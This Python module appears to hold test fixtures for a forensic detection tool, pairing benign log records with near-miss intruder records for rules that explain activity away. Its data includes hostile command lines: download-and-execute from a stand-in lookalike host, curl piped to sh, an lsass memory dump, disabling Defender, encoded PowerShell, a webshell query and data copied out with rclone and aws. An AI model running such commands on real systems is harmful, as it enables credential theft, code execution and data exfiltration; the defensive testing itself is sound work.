"""Scenes of the rules for other explanations: the innocent record, and what an intruder leaves in its stead.

Here the near miss is the record of the act that the explanation must not explain away.
"""

from __future__ import annotations

from typing import Any

from scenes import ACCOUNT, AUDIT, SYSMON, Rows, Scene, event, listed, row, scene, started
from scenes_frames import visit
from scenes_windows import typed

LOG, AT = "windows.eventlog", "2026-03-02T10:00:00Z"
DEFENDER, SCM = "Microsoft-Windows-Windows Defender", "Service Control Manager"
SESSIONS = "Microsoft-Windows-TerminalServices-LocalSessionManager"
SHELL, MSI = "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\msiexec.exe"
CMD, SVCHOST = "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\svchost.exe"
INSTALL = "iex ((New-Object Net.WebClient).DownloadString('https://{}/install.ps1'))"
FETCHES = "(New-Object Net.WebClient).DownloadFile('https://x.example/a', 'a')"
GUIDS = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
PARTY, PRIVATE = "+442079460958", ["gmail.com"]
HIDDEN = "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand "
OURS = {"from_address": "ada@firm.example", "from_domain": "firm.example", "message_id": "<1@firm.example>"}
SENT = {**OURS, "attachment_count": 1, "attachment_names": ["plan.docx"], "recipient_domains": PRIVATE}
FAILED = {**OURS, "spf": "softfail", "dkim": "fail", "dmarc": "fail"}


def by(line: str, parent: str, other: str) -> Scene:
    """One line, started by the program that explains it and by another."""
    return scene(LOG, started(line, ParentImage=parent), started(line, ParentImage=other))


def old_link(created: str) -> tuple[str, Any]:
    """A link to an item on a stick, which came onto it then."""
    data = {"local_path": "E:\\plan.docx", "drive_type": "removable", "volume_serial": "1234-ABCD"}
    return row(data, target_accessed=AT, target_created=created)


def lines(hit: str, miss: str, parent: str = SHELL) -> Scene:
    """Two lines of one parent."""
    return scene(LOG, started(hit, ParentImage=parent), started(miss, ParentImage=parent))


def events(number: int, provider: str, hit: dict[str, Any], miss: dict[str, Any], count: int = 1) -> Scene:
    """Events that differ in some fields."""
    return scene(LOG, *([event(number, provider, at(n), **one) for n in range(count)] for one in (hit, miss)))


def at(minute: int) -> str:
    return f"2026-03-02T{10 + minute // 60:02d}:{minute % 60:02d}:00Z"


def then(first: Any, second: Any) -> Rows:
    return [first, second]


def text(hit: str, miss: str, **more: Any) -> Scene:
    """PowerShell script blocks."""
    provider = "Microsoft-Windows-PowerShell"
    return scene(
        LOG,
        event(4104, provider, ScriptBlockText=hit, **more),
        event(4104, provider, ScriptBlockText=miss, **more),
    )


def installed(provider: str, number: int) -> Rows:
    """A service, and a record of the installer some minutes later."""
    service = event(
        7045, SCM, at(1), ServiceName="Helper", ImagePath="C:\\ProgramData\\Helper\\h.exe", StartType="auto start"
    )
    return then(service, event(number, provider, at(4), data_0="Helper 2.1", data_4="Helper Ltd"))


def changed(parent: str) -> Rows:
    """A console for accounts that a program opened, and a new account ten minutes later."""
    console = started('mmc.exe "C:\\Windows\\system32\\dsa.msc"', at=at(1), ParentImage=parent)
    return then(console, event(4720, AUDIT, at(11), TargetUserName="new", SubjectUserName="adm"))


def bounced(address: str) -> dict[str, Any]:
    subject = "Undelivered Mail Returned to Sender"
    return {"from_address": "mailer-daemon@mx.example", "subject": subject, "body": f"550 5.1.1 <{address}>: unknown"}


def taken_over(product: str) -> Rows:
    return then(
        event(5001, DEFENDER, at(1)),
        event(15, "SecurityCenter", at(9), data_0=product, data_1="SECURITY_PRODUCT_STATE_ON"),
    )


def mail(hit: dict[str, Any], miss: dict[str, Any]) -> Scene:
    return scene("mail.message", row(hit, date=AT), row(miss, date=AT))


def asked(count: int, **values: Any) -> Rows:
    values = {"client": "198.51.100.9", "query": "cmd=whoami", "status": 404, **values}
    return [row({"path": f"/a{n}.php", **values}, requested_at=at(n)) for n in range(count)]


def picture(path: str, **more: Any) -> tuple[str, Any]:
    return row({"make": "Made", "model": "M1", "latitude": 51.5, "longitude": -0.1, **more}, path=path)


def created(user: str, uid: int, home: str) -> dict[str, Any]:
    return {"event": "account_created", "user": user, "uid": uid, "home": home, "shell": "/bin/bash"}


def call(direction: str) -> dict[str, Any]:
    return {"number": PARTY, "direction": direction, "duration": 0}


def run(path: str) -> dict[str, Any]:
    return {"executable": path.rpartition("\\")[2], "executable_path": path, "run_count": 1}


SCENES: dict[str, Scene] = {
    # logons
    "other.failures_of_service": events(
        4625, AUDIT, {"LogonType": 5, "TargetUserName": "svc"}, {"LogonType": 3, "TargetUserName": "svc"}, 5
    ),
    "other.session_switched_at_console": events(
        4778,
        AUDIT,
        {"ClientAddress": "LOCAL", "AccountName": "ada"},
        {"ClientAddress": "192.0.2.9", "AccountName": "ada"},
    ),
    "other.remote_desktop_by_habit": events(
        21, SESSIONS, {"User": "F\\ada", "Address": "10.0.0.8"}, {"User": "F\\ada", "Address": "198.51.100.8"}, 8
    ),
    "other.runas_netonly": by("runas /netonly /user:F\\adm mmc.exe", SHELL, "C:\\Users\\Public\\a.exe"),
    # what starts by itself
    "other.autostart_by_installer": by("schtasks /create /tn Helper /tr C:\\ProgramData\\h.exe /sc onlogon", MSI, CMD),
    "other.service_with_installation": scene(LOG, installed("MsiInstaller", 1033), installed("MsiInstaller", 1034)),
    "other.autostart_by_product": events(
        13,
        SYSMON,
        {
            "TargetObject": "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper",
            "Details": "C:\\Users\\a\\AppData\\Local\\Helper\\h.exe",
            "Image": "C:\\Program Files\\Helper\\setup.exe",
        },
        {
            "TargetObject": "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper",
            "Details": "C:\\Users\\a\\AppData\\Local\\Helper\\h.exe",
            "Image": "C:\\Users\\a\\Downloads\\setup.exe",
        },
    ),
    "linux.cron_calls_own_host": scene(
        "linux.crontab",
        {"kind": "entry", "user": "www-data", "command": "curl -s http://127.0.0.1/cron.php"},
        {"kind": "entry", "user": "www-data", "command": "curl -s http://127.0.0.1/cron.php | sh"},
    ),
    # accounts
    "other.account_of_product": events(
        4720,
        AUDIT,
        {"TargetUserName": "QBDataServiceUser32", "SubjectUserName": "ada"},
        {"TargetUserName": "support", "SubjectUserName": "ada"},
    ),
    "other.account_by_provisioning": events(
        4720,
        AUDIT,
        {"TargetUserName": "new", "SubjectUserName": "svc-SailPoint"},
        {"TargetUserName": "new", "SubjectUserName": "svc-print"},
    ),
    "other.accounts_by_console": scene(LOG, changed(SHELL), changed("C:\\Users\\Public\\a.exe")),
    "linux.account_of_package": scene(
        "linux.authlog", created("postgres", 116, "/var/lib/postgresql"), created("postgres", 1001, "/home/postgres")
    ),
    "linux.account_of_image": scene(
        "linux.authlog", created("ubuntu", 1000, "/home/ubuntu"), created("ubuntu", 1007, "/home/ubuntu")
    ),
    # secrets
    "other.replicated_by_product": events(
        4662,
        AUDIT,
        {"Properties": GUIDS, "SubjectUserName": "svc_adsync", "SubjectUserSid": ACCOUNT},
        {"Properties": GUIDS, "SubjectUserName": "ada", "SubjectUserSid": ACCOUNT},
    ),
    "other.account_databases_backed_up": by("wbadmin start systemstatebackup -quiet", "C:\\V\\VeeamAgent.exe", CMD),
    "other.dumped_another_program": lines("procdump64 -ma w3wp.exe C:\\d", "procdump64 -ma lsass.exe C:\\d", CMD),
    # from another host
    "other.managed_remotely": lines(
        f"powershell.exe {HIDDEN}JgBjAGgAYwBwAC4AYwBvAG0AIAA2ADUAMAAwADEAIAA+",
        f"powershell.exe {HIDDEN}SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "C:\\Windows\\System32\\winrshost.exe",
    ),
    # protection
    "other.protection_taken_over": scene(LOG, taken_over("Sophos Home"), taken_over("Windows Defender")),
    "other.exclusion_by_policy": events(
        5007,
        DEFENDER,
        {"New Value": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Exclusions\\Paths\\D:\\sql = 0x0"},
        {"New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0"},
    ),
    "reg.exclusion_of_product": scene(
        "windows.registry.defender_exclusion",
        {"kind": "Paths", "excluded": "C:\\Program Files\\Microsoft SQL Server\\MSSQL15"},
        {"kind": "Paths", "excluded": "C:\\Users\\Public\\Microsoft SQL Server"},
    ),
    "other.protection_set_by_management": by(
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true", "C:\\Windows\\CCM\\CcmExec.exe", CMD
    ),
    # starts and scripts
    "other.temp_program_by_installer": scene(
        LOG,
        event(1, SYSMON, Image="C:\\Temp\\is-4K2QD.tmp\\helper.exe", CommandLine="helper", ParentImage=SHELL),
        event(1, SYSMON, Image="C:\\Temp\\helper.exe", CommandLine="helper", ParentImage=SHELL),
    ),
    "other.start_prevented": scene(
        LOG,
        event(8004, "Microsoft-Windows-AppLocker", FilePath="%OSDRIVE%\\TEMP\\A.EXE"),
        event(8003, "Microsoft-Windows-AppLocker", FilePath="%OSDRIVE%\\TEMP\\A.EXE"),  # would have been: audit only
    ),
    "prefetch.built_in_temp": scene(
        "windows.prefetch",
        run("\\VOLUME{1}\\USERS\\A\\APPDATA\\LOCAL\\TEMP\\GO-BUILD3187\\B001\\EXE\\MAIN.EXE"),
        run("\\VOLUME{1}\\USERS\\A\\APPDATA\\LOCAL\\TEMP\\MAIN.EXE"),
    ),
    "other.known_install_script": text(
        INSTALL.format("community.chocolatey.org"), INSTALL.format("chocolatey.org.x.example")
    ),
    "hist.known_install_script": scene(
        "linux.history",
        {"command": "curl --proto '=https' -sSf https://sh.rustup.rs | sh"},
        {"command": "curl -sSf https://sh.rustup.example | sh"},
    ),
    "other.script_of_product": text(
        FETCHES, "Get-ChildItem", Path="C:\\Packages\\Plugins\\Microsoft.Compute.CustomScript\\1.10\\a.ps1"
    ),
    "other.script_with_signature": text(f"{FETCHES}\n# SIG # Begin signature block\n# MIIF", FETCHES),
    "antivirus.acted": scene(
        "antivirus.trendmicro",
        {"threat": "Troj.X", "action_name": "could not clean, deleted"},
        {"threat": "Troj.X", "action_name": "could not delete"},
    ),
    "linux.touch_in_build": scene(
        "linux.history",
        {"command": "touch -r debian/changelog configure"},
        {"command": "touch -r /etc/passwd /etc/cron.d/x"},
    ),
    # deletion and transfer
    "other.wiped_by_deployment": by("format D: /q /y", "C:\\MININT\\TSManager.exe", CMD),
    "lnk.removable_item_old": scene("windows.lnk", old_link("2026-01-05T10:00:00Z"), old_link("2026-03-02T09:58:00Z")),
    "cmd.transfer_in": lines(
        "rclone.exe copy vault:catalogues C:\\Data\\catalogues", "rclone.exe copy C:\\Data vault:catalogues"
    ),
    "hist.transfer_in": typed(
        "aws s3 cp s3://store/plans C:\\Data --recursive", "aws s3 cp C:\\Data s3://store/plans --recursive"
    ),
    "other.transfer_scheduled": by("rclone copy D:\\share remote:share", SVCHOST, CMD),
    "linux.transfer_by_cron": scene(
        "linux.cron",
        *(
            [
                row({"event": "cron_command", "user": "root", "command": line}, host="h", logged_at=at(n))
                for n in range(3)
            ]
            for line in ("rclone sync /srv remote:srv", "rclone version")
        ),
    ),
    # web servers
    "web.same_answer_to_all": scene("web.access", asked(5, status=200, bytes=612), asked(5, status=404, bytes=612)),
    "web.commands_from_inside": scene(
        "web.access",
        asked(3, client="10.0.0.4", path="/status.php", query="cmd=netstat", status=200),
        asked(3, client="198.51.100.9", path="/status.php", query="cmd=netstat", status=200),
    ),
    # files, browsers, pictures
    "list.backup_on_medium": scene(
        "file_listing", listed("FileHistory/ada/PC/Data/plan.docx"), listed("History/ada/Data/plan.docx")
    ),
    "list.capture_file": scene("file_listing", listed("Users/a/d.pcapng"), listed("Program Files/Wireshark/d.pcapng")),
    "list.capture_in_product": scene(
        "file_listing", listed("Program Files/Wireshark/d.pcapng"), listed("Users/a/d.pcapng")
    ),
    "browser.support_invitation": scene(
        "browser.chromium.visit",
        visit("https://get.teamviewer.com/a1b2c3", "Join"),
        visit("https://www.teamviewer.com/download", "Download"),
    ),
    "media.position_of_received_picture": scene(
        "media.exif", picture("Media/WhatsApp Images/IMG-1.jpg"), picture("Media/WhatsApp Images/Sent/IMG-2.jpg")
    ),
    "media.position_coarse": scene(
        "media.exif", picture("a.jpg", gps_error_metres=1414.0), picture("a.jpg", gps_error_metres=12.0)
    ),
    # telephones
    "contact.answered_elsewhere_android": scene(
        "android.call", call("answered externally"), call("incoming"), subject=PARTY
    ),
    "contact.blocked_calls_android": scene("android.call", call("blocked"), call("rejected"), subject=PARTY),
    # mail
    "mail.answer_to_private_sender": mail({**SENT, "in_reply_to": "<9@gmail.com>"}, SENT),
    "mail.sent_automatically": mail({**SENT, "auto_submitted": "auto-forwarded"}, {**SENT, "auto_submitted": "no"}),
    "mail.not_delivered": mail(bounced("b@gmail.com"), bounced("b@customer.example")),
    "mail.failed_through_list": mail({**FAILED, "list_id": "<staff.lists.example>"}, FAILED),
    "mail.failed_but_chain_passed": mail({**FAILED, "arc": "pass"}, {**FAILED, "arc": "none"}),
    "mail.sent_by_service": mail(
        {**FAILED, "return_path_domain": "em12.sendgrid.net"}, {**FAILED, "return_path_domain": "x.example"}
    ),
}
